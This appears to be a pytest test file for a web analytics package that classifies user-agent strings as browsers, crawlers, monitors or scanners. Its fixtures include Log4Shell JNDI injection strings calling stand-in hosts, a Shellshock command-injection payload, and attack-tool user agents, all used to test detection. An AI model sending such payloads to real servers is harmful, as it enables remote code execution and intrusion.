"""Programs that say what they are, and people whose phones are called like one."""

from __future__ import annotations

import os
import random
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import ua_parser_rs
from ua_parser.loaders import load_lazy_builtins
from ua_parser.regex import Resolver

from asgi_analytics.identify import crawlers
from asgi_analytics.identify.crawlers import BOT_CLASSES, UNKNOWN_CLASS, CrawlerList
from asgi_analytics.identify.useragent import SPIDER, SUSPICIOUS

from .agents import ANDROID, IPHONE, MAC, MOBILE, READER, REAL_BROWSERS, SAMPLES, WEBKIT, WINDOWS

# Phones and apps whose model, build or name looks like an entry of the open list.
MISTAKABLE = [
    f"Mozilla/5.0 (Linux; U; Android 4.1.1; ru-kz; HTC_Butterfly Build/JRO03C) {MOBILE}",
    f"{ANDROID} ViewSonic-V350 Build/FRG83G) {MOBILE}",
    f"{ANDROID} CPH2617 Build/AP3A.240617.008) {MOBILE}",
    f"{ANDROID} Butterfly) {MOBILE}",
    f"{ANDROID} CUBOT NOTE 20 PRO Build/QP1A.190711.020) {MOBILE}",
    "Mozilla/5.0 (iPad; U; CPU iPhone OS 7_0 like Mac OS X; de-DE) WIRED/3.2.3.11.87970",
    f"{IPHONE} GSA/345.0.700000000 Mobile/15E148 Safari/604.1",
    f"{MAC} Slack/4.41.97 Chrome/130.0.6723.118 Electron/33.2.0 Safari/537.36",
]


CRAWLERS = [
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "search-engine", "Googlebot", "2.1"),
    (
        f"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) {WEBKIT} Chrome/41.0.2272.96 Mobile Safari/537.36 "
        "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "search-engine",
        "Googlebot",
        "2.1",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        "ai-crawler",
        "GPTBot",
        "1.2",
    ),
    ("Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", "ai-crawler", "ClaudeBot", "1.0"),
    (
        "Mozilla/5.0 (compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot)",
        "ai-crawler",
        "OAI-SearchBot",
        "1.0",
    ),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "seo", "AhrefsBot", "7.0"),
    ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitoring", "UptimeRobot", "2.0"),
    ("sqlmap/1.7 (https://sqlmap.org)", "scanner", "sqlmap", "1.7"),
    ("ffuf/2.1.0", "scanner", "ffuf", "2.1.0"),
    ("Mozilla/5.0 (Hydra)", "scanner", "Hydra", None),
    ("commix/v3.9-stable (https://commixproject.com)", "scanner", "commix", "3.9"),
    ("${jndi:ldap://1.oast.example/Googlebot}", "scanner", None, None),
    ("Mozilla/5.0 (X11; Linux x86_64) Chrome/158.0.0.0 ${${::-j}ndi:dns://a.example}", "scanner", None, None),
    ("() { :;}; /bin/bash -c id", "scanner", None, None),
    ("Mozilla/5.0 (unknown-x86_64-linux-gnu) Siege/4.0.7", "http-library", "Siege", "4.0.7"),
    ("facebookexternalhit/1.1 Facebot Twitterbot/1.0", "social-preview", "facebookexternalhit", "1.1"),
    ("curl/8.5.0", "http-library", "curl", "8.5.0"),
    ("Python-urllib/3.11", "http-library", "Python-urllib", "3.11"),
    ("python-requests/2.32.3", "http-library", "python-requests", "2.32.3"),
    ("PostmanRuntime/7.36.0", "http-library", "PostmanRuntime", "7.36.0"),
    (
        f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} HeadlessChrome/120.0.6099.0 Safari/537.36",
        "browser-automation",
        "HeadlessChrome",
        "120.0.6099.0",
    ),
    (
        f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} HeadlessChrome/87.0.4280.88 YextBot/Java Safari/537.36",
        "seo",
        "YextBot",
        None,
    ),
    ("Fuzz Faster U Fool v2.1.0-dev", "scanner", "Fuzz Faster U Fool", "2.1.0"),  # what ffuf sends
    (
        "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2",
        "http-library",
        "PowerShell",
        "7.4.2",
    ),
    ("PycURL/7.45.3 libcurl/8.5.0", "http-library", "PycURL", "7.45.3"),
    ("kube-probe/1.30", "monitoring", "kube-probe", "1.30"),
    ("ELB-HealthChecker/2.0", "monitoring", "ELB-HealthChecker", "2.0"),
    ("Consul Health Check", "monitoring", "Consul Health Check", None),
    (
        "Amazon-Route53-Health-Check-Service (ref 1; report http://amzn.to/1vsZADi)",
        "monitoring",
        "Amazon-Route53-Health-Check-Service",
        None,
    ),
    ("NetNewsWire (RSS Reader; https://netnewswire.com/)", "feed-reader", "NetNewsWire", None),
    ("Liferea/1.15.6 (Linux; https://lzone.de/liferea/)", "feed-reader", "Liferea", "1.15.6"),
    ("Bluesky Cardyb/1.1; +mailto:support@bsky.app", "social-preview", "Bluesky Cardyb", "1.1"),
    ("FooBarBot/1.0 (+https://foo.example/bot)", "crawler", "FooBarBot", "1.0"),
    ("Mozilla/5.0 (compatible; NewThing/1.0; +http://newthing.example)", "crawler", "NewThing", "1.0"),
    ("MyOwnCrawler/2.0", "crawler", "MyOwnCrawler", "2.0"),
    (
        f"{MAC} Cypress/13.6.0 Chrome/114.0.5735.289 Electron/25.8.4 Safari/537.36",
        "browser-automation",
        "Cypress",
        "13.6.0",
    ),
    # Browsers that fetch for somebody, with a contact address behind all that the browser says of itself.
    (f"{WINDOWS} Chrome/141.0.0.0 Safari/537.36 NewThing/1.0 (+https://new.example)", "crawler", "NewThing", "1.0"),
    (f"{WINDOWS} Chrome/141.0.0.0 Safari/537.36 New Thing (+https://new.example)", "crawler", "New Thing", None),
    (f"{WINDOWS} Chrome/141.0.0.0 Safari/537.36 (+https://new.example/it)", "crawler", "new.example", None),
    ("Mozilla/5.0 (compatible) NewThing/1.0 (+https://new.example)", "crawler", "NewThing", "1.0"),
    (
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0 (+https://new.example)",
        "crawler",
        "new.example",
        None,
    ),
]


@pytest.mark.parametrize("text", MISTAKABLE)
def test_a_person_whose_phone_is_called_like_a_crawler_is_a_person(text: str) -> None:
    assert READER.read(text).bot_class is None


@pytest.mark.parametrize(("text", "bot_class", "name", "version"), CRAWLERS)
def test_declared_crawlers_have_class_name_and_version(
    text: str, bot_class: str, name: str, version: str | None
) -> None:
    agent = READER.read(text)
    assert (agent.bot_class, agent.crawler, agent.browser, agent.version) == (bot_class, name, name, version)
    assert agent.device == "bot"


def test_99_of_100_samples_of_the_open_list_are_recognised() -> None:
    missed = [text for _, text in SAMPLES if READER.read(text).bot_class is None]
    assert len(missed) <= len(SAMPLES) / 100, missed


def test_the_samples_classes_are_their_tags() -> None:
    agents = [(entry, READER.read(text)) for entry, text in SAMPLES]
    wrong = [entry["pattern"] for entry, agent in agents if agent.bot_class not in entry["tags"]]
    assert len(wrong) <= 0.01 * len(SAMPLES), wrong
    assert {agent.bot_class for _, agent in agents} <= {*BOT_CLASSES, "crawler", None}


def test_no_browser_of_an_open_list_is_taken_for_a_crawler() -> None:
    assert len(REAL_BROWSERS) > 500
    agents = {text: READER.read(text) for text in REAL_BROWSERS}
    assert [text for text, agent in agents.items() if agent.bot_class or agent.operator or agent.device == "bot"] == []
    assert [text for text, agent in agents.items() if agent.browser is None] == []


def test_a_spider_is_whom_all_device_rules_together_take_for_one() -> None:
    device = Resolver(load_lazy_builtins()).de.extract
    texts = [text for _, text in SAMPLES] + REAL_BROWSERS
    spiders = {text for text in texts if (found := device(text)) and found.family == SPIDER}
    assert len(spiders) > 1000
    assert [text for text in spiders if READER.read(text).device != "bot"] == []
    for text in texts:
        system, _ = READER._read_system(text)
        if not text.startswith("Mozilla/5.0 (") or any(word in text.lower() for word in SUSPICIOUS):
            assert READER._is_spider(text, system) is (text in spiders), text


def test_entries_the_engine_cannot_compile_are_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [("seo", "GoodBot"), ("seo", "(?=look)ahead"), ("scanner", "OtherBot")]
    monkeypatch.setattr(crawlers, "_crawler_rows", lambda: rows)
    with pytest.raises(ValueError, match="look-around"):
        ua_parser_rs.UserAgentExtractor([("(?=look)ahead", "", None, None, None, None)])
    known = CrawlerList()
    assert known.find("OtherBot/1") == ("scanner", "OtherBot")
    assert known.find("GoodBot/1") == ("seo", "GoodBot")


def test_plain_names_are_found_as_their_regular_expressions_would_be() -> None:
    listed = list(crawlers._crawler_rows())
    compiled = crawlers.extractor(
        (crawlers._delimited(pattern), str(place)) for place, (_, pattern) in enumerate(listed)
    )
    known, chance = CrawlerList(), random.Random(1)
    texts = [text for text in [*REAL_BROWSERS, *(text for _, text in SAMPLES)] if text.isascii()]
    for _ in range(3000):  # names where they do not belong, cut off, one in another, or going on
        text, place = chance.choice(texts), chance.randrange(70)
        name = re.sub(r"\\[bdw]|\\(.)", r"\1", chance.choice(listed)[1])
        texts.append(text[:place] + name[chance.randrange(2) :] + chance.choice("_ a/0;.") + text[place:][:440])
    for text in texts:
        names = crawlers._LIKE.sub("", crawlers._MODEL.sub("", text, 1))
        if (match := compiled.extract(names)) is not None:
            found = listed[int(match.family)][0], crawlers._name(match.major or "")
            assert known.find(text) == found, text
        else:
            assert (known.find(text) or (UNKNOWN_CLASS,))[0] == UNKNOWN_CLASS, text


@pytest.mark.parametrize(
    "text", ["Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)"]
)
def test_who_is_like_another_is_not_the_other(text: str) -> None:
    assert READER.read(text).crawler == "Feedly"


def test_the_list_of_crawlers_is_read_whatever_encoding_the_locale_has() -> None:
    locale = {"LC_ALL": "POSIX", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"}
    program = "from asgi_analytics.identify.useragent import AgentReader; AgentReader()"
    done = subprocess.run([sys.executable, "-c", program], env={**os.environ, **locale}, capture_output=True, text=True)
    assert (done.returncode, done.stderr) == (0, "")


def test_the_list_of_crawlers_is_found_in_an_archive_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with zipfile.ZipFile(tmp_path / "packages.zip", "w") as archive:
        archive.writestr("crawleruseragents/__init__.py", "raise ImportError")
        archive.writestr("crawleruseragents/crawler-user-agents.json", '[{"pattern": "Zipped"}]')
    monkeypatch.delitem(sys.modules, "crawleruseragents", raising=False)
    monkeypatch.syspath_prepend(tmp_path / "packages.zip")
    assert crawlers._known_crawlers() == [{"pattern": "Zipped"}]
